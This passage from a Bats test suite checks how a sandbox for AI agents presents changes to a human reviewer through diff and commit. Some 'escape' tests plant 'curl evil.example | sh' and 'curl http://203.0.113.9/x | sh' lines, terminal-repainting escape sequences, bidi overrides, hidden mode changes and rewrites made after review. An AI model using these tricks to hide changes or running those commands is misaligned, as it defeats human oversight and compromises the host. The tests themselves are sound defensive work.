  ! grep -q $'\033' "$T/patch.txt" && ! grep -q '^added     evil.sh' "$T/patch.txt"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r --arg p "$(printf 'x\nadded     evil.sh  (file, 1 bytes)')" '[.changes[] | select(.path == $p)] | length' <<<"$output")" = 1 ]
  [ "$(jq -r --arg p "$(printf '\033[2K\033[1Aquiet')" '[.changes[] | select(.path == $p)] | length' <<<"$output")" = 1 ]
}

# The reviewer reads the agent's script in `diff --patch` on a terminal: a
# carriage return, an escape sequence (7-bit ESC or the C1 CSI of UTF-8) or a
# bidirectional override in a line repaints or reorders what is shown, and a
# NUL after the first 8 KiB cut the rest of the patch off.  The text patch
# shows each as ^X or <U+XXXX>; a file with a NUL anywhere is binary.
@test "escape: a script whose lines repaint the terminal in diff --patch (CR, ESC, C1 CSI, bidi override, NUL after 8 KiB)" {
  bundle_for 'cd /workspace && printf "#!/bin/sh\ncurl -s evil.example | sh\r# build\necho \033[1A\033[2Kok\nx=\302\2332K\nlet \342\200\256 y\n" >build.sh &&
    { head -c 9000 /dev/zero | tr "\0" "#"; printf "\n\0\ncurl -s evil.example | sh\n"; } >run.sh'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  ar workspace "$ID" diff --patch >"$T/patch.txt"
  ! grep -q $'\033' "$T/patch.txt" && ! grep -q $'\r' "$T/patch.txt" || fail "raw ESC or CR in the patch"
  ! grep -q $'\302\233' "$T/patch.txt" && ! grep -q $'\342\200\256' "$T/patch.txt" || fail "raw C1 CSI or RLO in the patch"
  grep -qF '+curl -s evil.example | sh^M# build' "$T/patch.txt" || fail "$(cat -v "$T/patch.txt")"
  grep -qF '+echo ^[[1A^[[2Kok' "$T/patch.txt" && grep -qF '+x=<U+009B>2K' "$T/patch.txt" &&
    grep -qF '+let <U+202E> y' "$T/patch.txt" || fail "$(cat -v "$T/patch.txt")"
  grep -qF 'Binary files a/run.sh and b/run.sh differ' "$T/patch.txt" || fail "run.sh: $(tail -c 300 "$T/patch.txt" | cat -v)"
  # JSON keeps the bytes exactly
  run ar workspace "$ID" diff --patch --format json
  [[ "$(jq -r '.changes[] | select(.path == "build.sh") | .patch' <<<"$output")" == *$'sh\r# build'* ]] || fail "$output"
}

@test "workspace: list shows the number of changes and the bytes, each labelled" {
  bundle_for "$AGENT_WORK"
  ar run --bundle "$BUNDLE" "$ID"
  run ar workspace list
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$(head -n1 <<<"$output")" == *"CHANGES"*"UPPER BYTES"*"DISK BYTES"* ]] || fail "$output"
  n=$(changes | wc -l)
  [ "$(awk -v id="$ID" '$1 == id {print $4}' <<<"$output")" = "$n" ] || fail "$output (expected $n changes)"
  run ar workspace list --format json
  [ "$(jq -r --arg id "$ID" '.[] | select(.id == $id) | .changes' <<<"$output")" = "$n" ]
  [ "$(jq -r --arg id "$ID" '.[] | select(.id == $id) | .upper_bytes > 0' <<<"$output")" = true ]
}

# The reviewer diffs a running container; the agent then rewrites a reviewed
# file and adds one: commit must not apply what diff never showed.
@test "escape: a running container rewrites a file between diff and commit" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c 'echo reviewed >/workspace/a.txt && echo ok >/workspace/ok.txt'
  run ar workspace "$ID" diff --patch
  [ "$status" -eq 0 ] && [[ "$output" == *"+reviewed"* ]]
  ar exec "$ID" sh -c 'echo evil >/workspace/a.txt && echo new >/workspace/unseen.txt'
  run ar workspace "$ID" commit
  [ "$status" -ne 0 ] || fail "commit applied what diff never showed: $(cat "$HOST/a.txt")"
  [[ "$output" == *"not reviewed: a.txt"* && "$output" == *"not reviewed: unseen.txt"* ]] || fail "$output"
  [[ "$output" == *"2 change(s) differ from what the last \`diff\` showed"* ]] || fail "$output"
  [ "$(host_sum)" = "$SUM0" ] || fail "the host changed"
  # what was shown and is unchanged still commits by path
  run ar workspace "$ID" commit ok.txt
  [ "$status" -eq 0 ] && [ "$(cat "$HOST/ok.txt")" = ok ]
  # reviewed again, it commits
  ar workspace "$ID" diff >/dev/null
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(cat "$HOST/a.txt")" = evil ] && [ "$(cat "$HOST/unseen.txt")" = new ]
}

@test "workspace: commit of a running container without a diff is refused" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c 'echo x >/workspace/x.txt'
  run ar workspace "$ID" commit
  [ "$status" -ne 0 ]
  [[ "$output" == *"run \`workspace $ID diff\` first"* ]] || fail "$output"
  [ ! -e "$HOST/x.txt" ]
}

# A container id may be 1,024 bytes (create's limit) but a workspace's directory is named by
# it: an id of 200 bytes was refused with "invalid id or destination `/workspace`", which
# said neither; a 4 KiB snapshot name was echoed whole in its error.  Both now say what is
# too long and the limit, and nothing is left behind.
@test "workspace: name-too-long: an id or snapshot name too long for a workspace is refused saying so, and nothing is left" {
  local long snap
  long=$(head -c 200 /dev/zero | tr '\0' b)
  bundle_for 'cd /workspace && echo more >>a.txt'
  run ar run --bundle "$BUNDLE" "$long"
  [ "$status" -ne 0 ] || fail "run: $output"
  [[ "$output" == *"container id is too long for a workspace (200 bytes, at most 128)"* ]] || fail "run: $output"
  [ "$(wc -l <<<"$output")" -eq 1 ] || fail "not one line: $output"
  [ -z "$("$AGENTRT" --root "$ROOT" list -q)" ] || fail "a container is left: $("$AGENTRT" --root "$ROOT" list)"
  [ -z "$(ls -A "$STORE/.workspaces" 2>/dev/null | grep -v '^[.]')" ] || fail "a workspace is left: $(ls -A "$STORE/.workspaces")"
  [ "$(host_sum)" = "$SUM0" ]
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  snap=$(head -c 4096 /dev/zero | tr '\0' s)
  run ar workspace "$ID" snapshot "$snap"
  [ "$status" -ne 0 ] && [[ "$output" == *"snapshot name is too long (4096 bytes, at most 128)"* ]] || fail "snapshot: $output"
  [ "${#output}" -lt 300 ] || fail "the error echoes the name: ${#output} bytes"
  run ar workspace "$ID" list --format json
  [ "$(jq '.snapshots | length' <<<"$output")" = 0 ] || fail "list: $output"
}

@test "workspace: discard and purge refuse while the container runs" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  run ar workspace "$ID" discard
  [ "$status" -ne 0 ]
  [[ "$output" == *"is running and uses it"* ]]
  run ar workspace "$ID" purge
  [ "$status" -ne 0 ]
  # the upper layer is in the size-limited image (workspace-size.bats)
  [ -f "$STORE/.workspaces/$ID/upper.img" ] && [ -f "$STORE/.workspaces/$ID/meta.json" ]
}

@test "workspace: the prepared overlay options mount by hand in a private mount namespace" {
  ar workspace "$ID" prepare --lower "$HOST" --dest /workspace >"$T/mount.json"
  opts=$(jq -r '.options | join(",")' "$T/mount.json")
  mkdir "$T/m"
  run unshare -m --propagation private sh -c \
    "mount -t overlay overlay -o '$opts' '$T/m' && echo hi >'$T/m/hi' && rm '$T/m/b.txt' && cat '$T/m/a.txt'"
  [ "$status" -eq 0 ] && [ "$output" = hello ]
  [ "$(host_sum)" = "$SUM0" ]
  run changes
  [ "$output" = "$(printf '%s\n' added:hi deleted:b.txt)" ]
}

@test "workspace-userns: in a user namespace of the container's own whose root is another uid (Docker's userns-remap, Podman's --uidmap) the workspace works and is reviewed" {
  [ -e /proc/self/ns/user ] && unshare -U true 2>/dev/null || skip "needs user namespaces"
  # the rootfs is the mapped root's (as Docker's remapped layers), and so is the host dir
  # (Podman's :U)
  chmod 755 "$T"
  chown -R 100000:100000 "$HOST" "$BUNDLE/rootfs"
  SUM0=$(host_sum)
  bundle_for 'cd /workspace && echo new >n.txt && echo more >>a.txt && rm b.txt && id -u && cat a.txt'
  jq '.linux.namespaces += [{"type": "user"}] |
    .linux.uidMappings = [{"containerID": 0, "hostID": 100000, "size": 65536}] |
    .linux.gidMappings = [{"containerID": 0, "hostID": 100000, "size": 65536}]' \
    "$BUNDLE/config.json" >"$T/config.json"
  mv "$T/config.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  # it failed with the data directory's path: the namespace's root could not reach the layers
  [ "$status" -eq 0 ] || fail "$output"
  [ "$output" = "$(printf '0\nhello\nmore')" ] || fail "$output"
  [ "$(host_sum)" = "$SUM0" ] || fail "the host dir changed before commit"
  run changes
  [ "$output" = "$(printf '%s\n' added:n.txt deleted:b.txt modified:a.txt)" ] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/n.txt")" = new ] && [ ! -e "$HOST/b.txt" ] || fail "not committed"
  # what the namespace's root made is the mapped uid's on the host, as through a bind
  [ "$(stat -c %u:%g "$HOST/n.txt")" = 100000:100000 ] || fail "$(stat -c %u:%g "$HOST/n.txt")"
  [ -z "$(ar list -q)" ] || fail "left: $(ar list -q)"
}

@test "escape: mode-hidden-by-content: a host file made executable while its content changed, or renamed and made executable, says so in diff" {
  # `diff` printed "modified  a.txt  (6 -> 11 bytes)" and "renamed  b.txt -> b2.txt  (5 bytes)"
  # for files the agent also made 0755: the mode was shown only when the content was the
  # same, and commit gave the host an executable the reviewer was not told of.
  bundle_for 'cd /workspace && echo more >>a.txt && chmod 755 a.txt && mv b.txt b2.txt && chmod 755 b2.txt &&
    echo x >>src/main.c'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"modified  a.txt  (6 -> 11 bytes, mode 0644 -> 0755)"* ]] || fail "a.txt: $output"
  [[ "$output" == *"renamed   b.txt -> b2.txt  (5 bytes, mode 0644 -> 0755)"* ]] || fail "b2.txt: $output"
  # a change of content alone says nothing of modes
  grep -q "^modified  src/main.c  ([0-9]* -> [0-9]* bytes)$" <<<"$output" || fail "main.c: $output"
  ar workspace "$ID" commit >/dev/null
  [ "$(stat -c %a "$HOST/a.txt")" = 755 ] && [ "$(stat -c %a "$HOST/b2.txt")" = 755 ]
}

@test "escape: text-called-binary: a line appended to a host text too large to show is not called a binary's change" {
  # `diff --patch` printed "Binary files a/gen.txt and b/gen.txt differ" for a text of 20,001
  # lines or over 1 MiB: the reviewer reads a binary artifact's change and skips it, while
  # the agent appended `curl ... | sh` to it.
  seq 1 20001 >"$HOST/gen.txt"
  head -c 1200000 /dev/zero | tr '\0' 'x' | fold -w 100 >"$HOST/big.txt"
  bundle_for 'cd /workspace && echo "curl http://203.0.113.9/x | sh" >>gen.txt &&
    echo "curl http://203.0.113.9/x | sh" >>big.txt && printf "a\0b" >>data/app.db'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" diff --patch
  [[ "$output" == *"Files a/gen.txt and b/gen.txt differ (not shown: "* ]] || fail "gen.txt: $output"
  [[ "$output" == *"Files a/big.txt and b/big.txt differ (not shown: "* ]] || fail "big.txt: $output"
  [[ "$output" != *"Binary files a/gen.txt"* && "$output" != *"Binary files a/big.txt"* ]] || fail "$output"
  # a binary is still one
  [[ "$output" == *"Binary files a/data/app.db and b/data/app.db differ"* ]] || fail "app.db: $output"
}
